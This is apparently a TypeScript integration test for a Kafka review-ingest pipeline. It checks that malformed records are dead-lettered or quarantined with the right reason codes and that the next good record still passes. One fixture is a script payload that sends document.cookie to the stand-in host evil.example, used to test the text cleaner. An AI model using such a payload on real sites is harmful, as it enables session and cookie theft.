import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { contentKey } from '../../src/ingest/index.js';
import { decode, encode } from '../../src/records/index.js';
import type { RawReview } from '../../src/records/types.js';
import { Pipeline } from '../../src/runtime/pipeline.js';
import type { Topology } from '../../src/topology/index.js';
import { dropTopology, testKafka, testTopology } from '../helpers/kafka.js';
import { waitForStages } from '../helpers/pipeline.js';

const kafka = testKafka();
let topology: Topology;

beforeAll(async () => {
  topology = await testTopology(kafka, 'badinput');
});
afterAll(async () => dropTopology(kafka, topology));

const raw = (id: string, text: string, label: number | null): RawReview => ({ id, text, label, rating: null, source: 'matrix', ingestedAt: 1 });

describe('bad input on a real broker', () => {
  it('bad input matrix: each bad record ends where the spec says with a reason code, and the next record goes on', async () => {
    const unknownFingerprint = Buffer.concat([Buffer.from([0xc3, 0x01]), Buffer.alloc(8, 0xab), Buffer.from('body')]);
    const cases: Array<{ id: string; value: Buffer }> = [
      // Plain text: a JSON object is a review on the ingest topic now (src/ingest/wire.ts), so it would not be dead-lettered.
      { id: 'not-avro', value: Buffer.from('this is plain text, neither Avro nor JSON') },
      { id: 'unknown-fingerprint', value: unknownFingerprint },
      { id: 'empty-text', value: encode('review-raw', raw('empty-text', '', 1)) },
      { id: 'too-long', value: encode('review-raw', raw('too-long', 'word '.repeat(30_000), 1)) },
      { id: 'controls-only', value: encode('review-raw', raw('controls-only', '\u0001\u0002\u0003\u0007', 1)) },
      { id: 'html-only', value: encode('review-raw', raw('html-only', '<div><br /><p></p></div>', 0)) },
      { id: 'script-only', value: encode('review-raw', raw('script-only', '<script>document.location = "https://evil.example/?c=" + document.cookie;</script>', 1)) },
      { id: 'style-and-comment-only', value: encode('review-raw', raw('style-and-comment-only', '<style>body { display: none }</style><!-- a long comment that is not review text --><![CDATA[ nor is this ]]>', 1)) },
      { id: 'missing-label', value: encode('review-raw', raw('missing-label', 'a perfectly reasonable review without any label at all', null)) },
      { id: 'label-out-of-range', value: encode('review-raw', raw('label-out-of-range', 'another reasonable review whose label is out of range', 5)) },
    ];
    const good = raw('good-after', 'the battery life is excellent and the screen is bright', 1);
    const producer = kafka.producer();
    await producer.connect();
    // one partition for all, so "the record after" really comes after
    await producer.send([{ topic: topology.ingest, messages: [...cases.map((c) => ({ key: c.id, value: c.value, partition: 0 })), { key: contentKey(good.text), value: encode('review-raw', good), partition: 0 }] }]);
    await producer.disconnect();

    const pipeline = new Pipeline({ kafka, topology, stages: ['clean', 'augment', 'gate'], instance: 'matrix' });
    await pipeline.start();
    try {
      const s = (id: string) => pipeline.progress().stages.find((x) => x.stage === id)!.session;
      await waitForStages(pipeline, { clean: () => cases.length + 1, augment: () => s('clean').out, gate: () => s('augment').out + s('augment').generated });
    } finally {
      await pipeline.stop();
    }

    const dlq = new Map<string, string>();
    await kafka.readToEnd({ topic: topology.stages[0]!.deadLetter! }, (m) => {
      const letter = decode('dead-letter', m.value!);
      dlq.set(m.key!.toString(), letter.errorCode);
      expect(letter.stage).toBe('clean');
      expect(letter.sourceTopic).toBe(topology.ingest);
      if (m.key!.toString() === 'not-avro') expect(letter.value!.toString()).toContain('this is plain text');
    });
    expect(dlq.get('not-avro')).toBe('NOT_SINGLE_OBJECT');
    expect(dlq.get('unknown-fingerprint')).toBe('UNKNOWN_FINGERPRINT');

    const quarantined = new Map<string, string[]>();
    await kafka.readToEnd({ topic: topology.stages[2]!.quarantine! }, (m) => {
      const q = decode('quarantine', m.value!);
      quarantined.set(q.review.id, q.reasons);
    });
    expect(quarantined.get('empty-text')).toContain('too-short');
    expect(quarantined.get('controls-only')).toContain('too-short');
    expect(quarantined.get('html-only')).toContain('too-short');
    for (const id of ['empty-text', 'controls-only', 'html-only', 'script-only', 'style-and-comment-only']) {
      expect(quarantined.get(id), id).toContain('no-text');
    }
    expect(quarantined.get('missing-label')).toContain('missing-label');
    expect(quarantined.get('label-out-of-range')).toContain('invalid-label');
    expect(quarantined.get('too-long')).toBeDefined();

    const accepted = new Set<string>();
    await kafka.readToEnd({ topic: topology.stages[2]!.output }, (m) => accepted.add(decode('review', m.value!).id));
    expect(accepted.has('good-after')).toBe(true);
  });
});
